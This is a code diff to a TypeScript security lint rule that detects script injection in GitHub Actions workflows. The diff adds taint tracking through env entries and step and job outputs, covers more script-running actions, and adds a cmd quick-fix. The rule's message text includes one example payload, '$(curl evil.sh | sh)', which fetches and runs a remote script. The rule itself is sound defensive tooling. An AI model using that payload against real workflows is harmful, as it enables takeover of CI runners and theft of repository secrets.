@@ -1,60 +1,17 @@
-import { type ExpressionSpan, findExpressions, parseCondition, parseExpression, renderedPaths, type RenderedPath, usesStatusFunction } from '../../engine/languages/expressions';
+import { type ExpressionSpan, findExpressions, parseCondition, usesStatusFunction } from '../../engine/languages/expressions';
 import type { Severity, TextEdit } from '../../engine/core/finding';
 import { onlyBotsPass } from '../../engine/model/actors';
 import { byJobId, crossJobVerdicts } from '../../engine/model/crossJob';
 import { graphOf } from '../../engine/model/jobGraph';
 import { stepCondition } from '../../engine/model/jobKind';
+import { JOB_OUTPUT_TAINTS, jobTaint, type JobTaint, SCRIPT_INPUTS, type Taint, taintChain } from '../../engine/model/taint';
 import { mayRunPrivileged, workflowTriggers } from '../../engine/model/triggers';
 import type { Step } from '../../engine/model/workflow';
 import { defineRule } from '../../engine/core/rule';
 import { scalarText, type ScalarText } from '../../engine/yaml/scalarText';
 import { insertMapEntry } from '../../engine/edits/yamlEdit';
 import { type Field, isMap, isScalar, mapFields, type Scalar, spanOf, type YamlDoc, type YamlFile } from '../../engine/yaml/yamlFile';
-
-/**
- * Context paths (lower case, `*` for any index or key) whose text the author of an issue, comment, pull request,
- * commit, branch or wiki page chooses. Names, logins, SHAs, numbers and flags are not free text and do not count.
- */
-const UNTRUSTED_TEXT: readonly string[][] = [
-  ...['issue', 'pull_request', 'discussion'].flatMap((object) => [`github.event.${object}.title`, `github.event.${object}.body`]),
-  ...['comment', 'review', 'review_comment'].map((object) => `github.event.${object}.body`),
-  'github.event.pages.*.page_name',
-  ...['github.event.commits.*', 'github.event.head_commit', 'github.event.workflow_run.head_commit'].flatMap((commit) => [
-    `${commit}.message`,
-    ...['author', 'committer'].flatMap((who) => [`${commit}.${who}.email`, `${commit}.${who}.name`]),
-  ]),
-  ...['ref', 'label', 'repo.default_branch'].map((field) => `github.event.pull_request.head.${field}`),
-  'github.event.workflow_run.head_branch',
-  'github.event.workflow_run.display_title',
-  'github.event.workflow_run.pull_requests.*.head.ref',
-  'github.head_ref',
-].map((path) => path.split('.'));
-
-/** Whether `path` (segments) can stand for the start of `template` (`*` matches any one segment either way). */
-function matchesStart(path: readonly string[], template: readonly string[]): boolean {
-  return path.length <= template.length && path.every((segment, i) => segment === '*' || template[i] === '*' || template[i] === segment);
-}
-
-/**
- * Whether what the expression pastes in can hold attacker-chosen text: an untrusted text field itself, or an object
- * holding one passed through `toJSON()`, `join()` …, or picked from one by a computed index. An object pasted as it is
- * renders as the word `Object` (an array as `Array`), and booleans and numbers (`…draft`, `…number`, comparisons,
- * `startsWith()`) are never code.
- */
-function untrustedIn(rendered: RenderedPath): boolean {
-  const path = rendered.path.split('.');
-  switch (rendered.via) {
-    case 'value':
-      return !path.includes('*') && UNTRUSTED_TEXT.some((template) => path.length === template.length && matchesStart(path, template));
-    case 'member': {
-      // A path through a filter (`github.event.commits.*.message`) is already the list of what it matched: an index picks one.
-      const memberLength = path.includes('*') ? path.length : path.length + 1;
-      return UNTRUSTED_TEXT.some((template) => template.length === memberLength && matchesStart(path, template));
-    }
-    case 'content':
-      return UNTRUSTED_TEXT.some((template) => matchesStart(path, template));
-  }
-}
+import type { Preset } from '../../engine/core/presets';
 
 export default defineRule({
   id: 'gha/script-injection',
@@ -62,18 +19,24 @@ export default defineRule({
   dora: ['change-failure-rate'],
   fixable: 'suggestion',
   messages: {
-    run: (expression: string, path: string) =>
-      `'${expression}' is pasted into the script before it runs, and '${path}' holds text that whoever opens an issue, pull request or branch chooses: a value like '$(curl evil.sh | sh)' runs as a command. Pass it through 'env:' and use the variable.`,
-    githubScript: (expression: string, path: string) =>
-      `'${expression}' is pasted into the JavaScript before it runs, and '${path}' holds attacker-chosen text: a quote in it ends the string and the rest runs as code. Pass it through 'env:' and read 'process.env'.`,
+    run: (expression: string, source: string) =>
+      `'${expression}' is pasted into the script before it runs, and ${source}: a value like '$(curl evil.sh | sh)' runs as a command. Pass it through 'env:' and use the variable.`,
+    githubScript: (expression: string, source: string) =>
+      `'${expression}' is pasted into the JavaScript before it runs, and ${source}: a quote in it ends the string and the rest runs as code. Pass it through 'env:' and read 'process.env'.`,
+    actionScript: (expression: string, input: string, action: string, source: string) =>
+      `'${expression}' is pasted into the '${input}' script that '${action}' runs, and ${source}: the value becomes code. Pass it through the step's 'env:' and read the variable in the script.`,
   },
   docs: {
-    summary: 'Never interpolate untrusted event text (`${{ github.event.issue.title }}` …) into a script.',
+    summary: 'Never interpolate untrusted text (`${{ github.event.issue.title }}`, or an `env:` entry, step output, job output or matrix value built from it) into a script.',
     rationale:
-      '`${{ }}` expressions are expanded into the text of a `run:` script (or a github-script `script:`) before the shell or Node sees it, so the value becomes code, not data. Titles, bodies and comments of issues and pull requests, branch names, commit messages and author names are all chosen by whoever opens them, including people with no access to the repository. One crafted title can then run commands with the workflow\'s token and secrets. An environment variable is passed as data and is never parsed as code. Contexts that are not free text (`github.sha`, `github.run_id`, `github.ref`, numbers, flags such as `…draft`, logins) are not flagged, nor are expressions whose result is a boolean (comparisons, `!`, `contains()`, `startsWith()`, `endsWith()`), nor a whole object pasted as it is (`${{ github.event }}` renders as the word `Object`; `toJSON(github.event)` does paste its text and is flagged), nor expressions in `env:` or `with:`. It is an error when the workflow may run on an event that hands a stranger\'s text to a job with secrets and a writable token (`pull_request_target`, `issues`, `issue_comment`, `discussion`, `discussion_comment`, `workflow_run`, `gollum`, or an event it cannot know: a reusable workflow, a composite action); a warning when it runs only on other events (on `pull_request` a fork\'s text runs with a read-only token and no secrets; on `push` the text comes from people who can push); info when the step or its job runs only for a bot author (`if: github.actor == \'dependabot[bot]\'`, also through `needs:`).',
+      '`${{ }}` expressions are expanded into the text of a script before the shell or Node sees it, so the value becomes code, not data. Titles, bodies and comments of issues and pull requests, branch names, commit messages and author names are all chosen by whoever opens them, including people with no access to the repository. One crafted title can then run commands with the workflow\'s token and secrets. An environment variable is passed as data and is never parsed as code. ' +
+      'The rule follows such text through the workflow: an `env:` entry (workflow, job or step) set from it, a step output a `run:` step writes from it (`echo "title=$TITLE" >> "$GITHUB_OUTPUT"`), a job output mapped to such a step output (read as `needs.<job>.outputs.<name>`), and a matrix built from it (`fromJSON(...)`); the message says how the text got there. The outputs of actions are not followed (what they hold is not known). Free-text inputs of `workflow_dispatch` and `workflow_call` (and every input of a composite action) are reported too, but milder: whoever starts or calls the workflow chooses them. ' +
+      'Scripts are `run:` in any shell, `actions/github-script`\'s `script:`, and the script inputs of well-known actions (`azure/cli` and `azure/powershell` `inlineScript`, `mikefarah/yq` `cmd`, `Amadevus/pwsh-script` and `jannekem/run-python-script-action` `script`, `addnab/docker-run-action` `run`, `appleboy/ssh-action` `script`). ' +
+      'Contexts that are not free text (`github.sha`, `github.run_id`, `github.ref`, numbers, flags such as `…draft`, logins, boolean, number and choice inputs) are not flagged, nor are expressions whose result is a boolean (comparisons, `!`, `contains()`, `startsWith()`, `endsWith()`), nor a whole object pasted as it is (`${{ github.event }}` renders as the word `Object`; `toJSON(github.event)` does paste its text and is flagged), nor expressions in `env:` or in `with:` of other actions. ' +
+      'It is an error when the workflow may run on an event that hands a stranger\'s text to a job with secrets and a writable token (`pull_request_target`, `issues`, `issue_comment`, `discussion`, `discussion_comment`, `workflow_run`, `gollum`, or an event it cannot know: a reusable workflow, a composite action); a warning when it runs only on other events (on `pull_request` a fork\'s text runs with a read-only token and no secrets; on `push` the text comes from people who can push); info when the step or its job runs only for a bot author (`if: github.actor == \'dependabot[bot]\'`, also through `needs:`). Inputs are a warning in `strict`; in the default preset only inputs typed in at `workflow_dispatch` are reported, as info (on the corpus, inputs of `workflow_call` and composite actions were nearly always their callers\' own constants).',
     symptom:
       'An issue or pull request with an odd title (backticks, `$( )`, quotes) makes a triage or labelling workflow fail, or silently run extra commands; secrets or the GITHUB_TOKEN are exfiltrated.',
-    fix: 'Move each such expression into the step\'s `env:` and use the variable, quoted, in the script (`"$PR_TITLE"`; `process.env.PR_TITLE` in github-script). The quick-fix does this, choosing names that do not clash with existing variables; it is offered for POSIX shells (`"$PR_TITLE"`), PowerShell (`$env:PR_TITLE`) and github-script, in whichever shell the step runs (its `shell:`, the job\'s or workflow\'s `defaults: run: shell:`, or the runner\'s default). cmd steps get no fix: cmd expands `%PR_TITLE%` before it parses the line, so the value would still be read as code; nor do Python steps.',
+    fix: 'Move each such expression into the step\'s `env:` and use the variable in the script, the way its shell reads it: `"$PR_TITLE"` in bash and sh, `$env:PR_TITLE` in PowerShell, `process.env.PR_TITLE` in github-script, and `!PR_TITLE!` in cmd with `setlocal EnableDelayedExpansion` added as the script\'s first line (cmd expands `%PR_TITLE%` before it parses the line, so that form would still run the text as code; delayed expansion reads it after). An `${{ env.X }}` becomes a reference to `X`, which the step already has. The quick-fix does this, choosing names that do not clash with existing variables, in whichever shell the step runs (its `shell:`, the job\'s or workflow\'s `defaults: run: shell:`, or the runner\'s default). No fix is offered for Python or other custom shells, for cmd scripts that use `!` themselves (delayed expansion would eat it) or are not block scalars, nor for script inputs of actions other than github-script (they run in a container or on another host, where the step\'s `env:` does not reach).',
     bad: `on: issues
 jobs:
   triage:
@@ -96,24 +59,42 @@ jobs:
     step(step, ctx) {
       const script = scriptOf(step, ctx.file);
       if (!script) return;
-      const found = untrustedExpressions(script.value);
+      const workflow = step.job.workflow;
+      const taint = jobTaint(step.job, ctx.doc, workflow.kind === 'workflow' ? ctx.acrossJobs(JOB_OUTPUT_TAINTS) : {});
+      const found = untrustedExpressions(script.value, taint, step);
       if (found.length === 0) return;
-      const edits = script.text && script.lang !== 'other' && script.lang !== 'cmd' ? fixEdits(ctx.file, ctx.doc, step, script, found) : undefined;
-      const severity = severityFor(step, ctx.doc, step.job.workflow.kind === 'workflow' ? ctx.acrossJobs(BOT_GATED) : byJobId<true>());
-      for (const { expression, path } of found) {
+      const fixable = script.text && script.lang !== 'other' && (script.lang !== 'cmd' || cmdFixable(script));
+      const edits = fixable ? fixEdits(ctx.file, ctx.doc, step, script, found) : undefined;
+      const severity = severityFor(step, ctx.doc, workflow.kind === 'workflow' ? ctx.acrossJobs(BOT_GATED) : byJobId<true>());
+      for (const { expression, taint: source } of found) {
         const span = script.text?.sourceSpan(expression.start, expression.end) ?? script.span;
-        ctx.report({
-          span,
-          message: script.kind,
-          args: [script.value.slice(expression.start, expression.end), path],
-          ...(severity ? { severity } : {}),
-          // One fix moves every expression of the step at once, whichever finding it is invoked from.
-          ...(edits ? { fix: { title: "Pass untrusted values through 'env:'", edits } } : {}),
-        });
+        const pasted = script.value.slice(expression.start, expression.end);
+        const said = describe(source, workflow.kind);
+        // Measured on the corpus: inputs a caller passes are almost always the caller's own constants; only inputs
+        // typed in at workflow_dispatch are worth a note by default.
+        if (source.level === 'input' && ctx.preset === 'recommended' && !source.dispatched) continue;
+        const level = source.level === 'input' ? inputSeverity(ctx.preset) : severity;
+        const fix = edits ? { fix: { title: "Pass untrusted values through 'env:'", edits } } : {};
+        // One fix moves every expression of the step at once, whichever finding it is invoked from.
+        if (script.kind === 'action') ctx.report({ span, message: 'actionScript', args: [pasted, script.input ?? '', step.uses ?? '', said], ...(level ? { severity: level } : {}), ...fix });
+        else ctx.report({ span, message: script.kind, args: [pasted, said], ...(level ? { severity: level } : {}), ...fix });
       }
     },
   },
 });
+
+/** Who chooses the text a taint holds, and how it got here, as the message says it. */
+function describe(taint: Taint, kind: 'workflow' | 'composite-action'): string {
+  const via = taint.chain.length > 0 ? ` (${taintChain(taint)})` : '';
+  if (taint.level === 'event') return `'${taint.path}' holds text that whoever opens an issue, pull request or branch chooses${via}`;
+  const who = kind === 'composite-action' ? 'whoever uses this action' : 'whoever starts or calls this workflow';
+  return `'${taint.path}' holds free text that ${who} chooses${via || ` ('${taint.origin}')`.replace(` ('${taint.path}')`, '')}`;
+}
+
+/** Inputs are chosen by people who can start or call the workflow: a note by default, a warning in strict. */
+function inputSeverity(preset: Preset): Severity {
+  return preset === 'recommended' ? 'info' : 'warning';
+}
 
 /**
  * How bad an injection is where the step runs: info when only bots' text reaches it (the step or its job, or a job
@@ -151,10 +132,10 @@ const BOT_GATED = crossJobVerdicts<true>('script-injection-bot-gated', ({ jobs }
 });
 
 interface Script {
-  kind: 'run' | 'githubScript';
+  kind: 'run' | 'githubScript' | 'action';
   /**
-   * What reads the script: a POSIX shell, PowerShell, cmd, JavaScript, or something else. cmd gets no fix: it expands
-   * `%VAR%` before it parses the line, so an environment variable's value is still read as code there.
+   * What reads the script: a POSIX shell, PowerShell, cmd, JavaScript, or something else (python, an action's own
+   * language: no fix). cmd is fixed with delayed expansion (`!NAME!`): `%NAME%` is expanded before the line is parsed.
    */
   lang: 'shell' | 'pwsh' | 'cmd' | 'js' | 'other';
   value: string;
@@ -162,6 +143,8 @@ interface Script {
   span: { start: number; end: number };
   /** The YAML style of the scalar holding the script: replacements are escaped for it. */
   style: Scalar['type'];
+  /** For an action's script input: its name as written. */
+  input?: string;
 }
 
 function scriptOf(step: Step, file: YamlFile): Script | undefined {
@@ -170,38 +153,58 @@ function scriptOf(step: Step, file: YamlFile): Script | undefined {
     const lang = kind === 'posix' ? 'shell' : kind;
     return { kind: 'run', lang, value: step.run.value, text: step.run.text, span: step.run.span, style: step.run.node.type };
   }
-  if (step.action?.id === 'actions/github-script') {
-    const node = step.inputs.get('script')?.value;
-    if (!isScalar(node) || typeof node.value !== 'string') return undefined;
-    return { kind: 'githubScript', lang: 'js', value: node.value, text: scalarText(file.text, node), span: spanOf(node), style: node.type };
+  const inputs = step.action?.id === undefined ? undefined : SCRIPT_INPUTS.get(step.action.id);
+  if (!inputs) return undefined;
+  for (const [name, field] of step.inputs) {
+    const lang = inputs.get(name.toLowerCase());
+    const node = field.value;
+    if (lang === undefined || !isScalar(node) || typeof node.value !== 'string') continue;
+    const kind = step.action!.id === 'actions/github-script' ? 'githubScript' : 'action';
+    return { kind, lang, value: node.value, text: scalarText(file.text, node), span: spanOf(node), style: node.type, input: name };
   }
   return undefined;
 }
 
 interface Found {
   expression: ExpressionSpan;
-  path: string;
+  taint: Taint;
 }
 
-function untrustedExpressions(script: string): Found[] {
+function untrustedExpressions(script: string, taint: JobTaint, step: Step): Found[] {
   const found: Found[] = [];
   for (const expression of findExpressions(script)) {
-    const parsed = parseExpression(expression.inner);
-    if (!parsed.ok) continue;
-    const untrusted = renderedPaths(parsed.ast).find(untrustedIn);
-    if (untrusted) found.push({ expression, path: untrusted.path });
+    const source = taint.expressionTaint(expression.inner, step);
+    if (source && taint.reaches(source, step)) found.push({ expression, taint: source });
   }
   return found;
 }
 
-/** `github.event.pull_request.head.ref` → `PR_HEAD_REF`, `github.event.issue.title` → `ISSUE_TITLE`. */
+/** cmd is fixed by turning on delayed expansion, which would eat any other `!` of the script: only block scripts without one. */
+function cmdFixable(script: Script): boolean {
+  if (script.style !== 'BLOCK_LITERAL' && script.style !== 'BLOCK_FOLDED') return false;
+  let outside = '';
+  let from = 0;
+  for (const expression of findExpressions(script.value)) {
+    outside += script.value.slice(from, expression.start);
+    from = expression.end;
+  }
+  return !(outside + script.value.slice(from)).includes('!');
+}
+
+/**
+ * `github.event.pull_request.head.ref` → `PR_HEAD_REF`, `github.event.issue.title` → `ISSUE_TITLE`,
+ * `steps.meta.outputs.title` / `needs.meta.outputs.title` → `TITLE`, `inputs.name` → `INPUTS_NAME`.
+ */
 function envName(path: string): string {
-  const segments = path
-    .split('.')
-    .filter((segment) => segment !== 'github' && segment !== 'event' && segment !== '*' && !/^\d+$/.test(segment))
-    .map((segment) => (segment === 'pull_request' ? 'pr' : segment));
+  const output = /^(?:steps|needs)\.[^.]+\.outputs\.([^.]+)$/i.exec(path);
+  const segments = output
+    ? [output[1]!]
+    : path
+        .split('.')
+        .filter((segment) => segment.toLowerCase() !== 'github' && segment.toLowerCase() !== 'event' && segment !== '*' && !/^\d+$/.test(segment))
+        .map((segment) => (segment.toLowerCase() === 'pull_request' ? 'pr' : segment));
   const name = segments.slice(-3).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_');
-  return name === '' ? 'GITHUB_EVENT' : name;
+  return name === '' ? 'GITHUB_EVENT' : /^[0-9]/.test(name) ? `_${name}` : name;
 }
 
 function envEntries(yaml: YamlDoc, fields: ReadonlyMap<string, Field>): string[] {
@@ -221,16 +224,24 @@ function fixEdits(file: YamlFile, yaml: YamlDoc, step: Step, script: Script, fou
     ...[...script.value.matchAll(/process\.env\.([A-Za-z_][A-Za-z0-9_]*)/g)].map((match) => match[1]!),
   ]);
   const names = new Map<string, string>(); // expression source → variable
+  const existing = new Set<string>(); // variables already in the step's environment (`env.X`)
   const edits: TextEdit[] = [];
-  const contexts = script.lang === 'shell' ? shellContexts(script.value) : script.lang === 'pwsh' ? pwshContexts(script.value) : jsContexts(script.value);
-  for (const { expression, path } of found) {
+  const contexts =
+    script.lang === 'shell' ? shellContexts(script.value) : script.lang === 'pwsh' ? pwshContexts(script.value) : script.lang === 'cmd' ? () => 'none' as const : jsContexts(script.value);
+  for (const { expression, taint } of found) {
     const source = expression.inner.trim();
     let name = names.get(source);
     if (!name) {
-      const base = envName(path);
-      name = base;
-      for (let n = 2; taken.has(name); n++) name = `${base}_${n}`;
-      taken.add(name);
+      const variable = taint.variable;
+      if (variable && /^[A-Za-z_][A-Za-z0-9_]*$/.test(variable) && /^env\.[A-Za-z_][A-Za-z0-9_]*$/i.test(source)) {
+        name = variable;
+        existing.add(source);
+      } else {
+        const base = envName(taint.path);
+        name = base;
+        for (let n = 2; taken.has(name); n++) name = `${base}_${n}`;
+        taken.add(name);
+      }
       names.set(source, name);
     }
     const replacement = reference(name, script.value, expression, contexts, script.lang);
@@ -239,7 +250,16 @@ function fixEdits(file: YamlFile, yaml: YamlDoc, step: Step, script: Script, fou
     if (!span || newText === undefined) return undefined;
     edits.push({ ...span, newText });
   }
-  const lines = [...names].map(([source, name]) => `${name}: ${yamlValue(`\${{ ${source} }}`)}`);
+  if (script.lang === 'cmd' && !script.value.split('\n').some((line) => /^setlocal\s+enabledelayedexpansion\b/i.test(line.trim()))) {
+    // Delayed expansion (`!NAME!`) reads the variable after cmd has parsed the line, so its text stays data.
+    const at = script.text!.sourceOffset(0);
+    if (at === undefined) return undefined;
+    const indent = file.text.slice(file.text.lastIndexOf('\n', at - 1) + 1, at);
+    if (indent.trim() !== '') return undefined;
+    edits.push({ start: at, end: at, newText: `setlocal EnableDelayedExpansion\n${indent}` });
+  }
+  const lines = [...names].filter(([source]) => !existing.has(source)).map(([source, name]) => `${name}: ${yamlValue(`\${{ ${source} }}`)}`);
+  if (lines.length === 0) return edits;
   const envEdit = isMap(envNode) ? insertMapEntry(file, envNode, lines.join('\n')) : insertMapEntry(file, step.node, ['env:', ...lines.map((line) => `  ${line}`)].join('\n'));
   if (!envEdit) return undefined;
   return [...edits, envEdit];
@@ -290,6 +310,7 @@ function reference(
     if (quote) return { start, end, text: `${quote} + ${variable} + ${quote}` };
     return { start, end, text: variable };
   }
+  if (lang === 'cmd') return { start, end, text: `!${name}!` };
   if (lang === 'pwsh') {
     // PowerShell reads environment variables as `$env:NAME`, braced when a name character follows; it never splits them into words.
     const variable = /[A-Za-z0-9_:]/.test(script[end] ?? '') ? `\${env:${name}}` : `$env:${name}`;
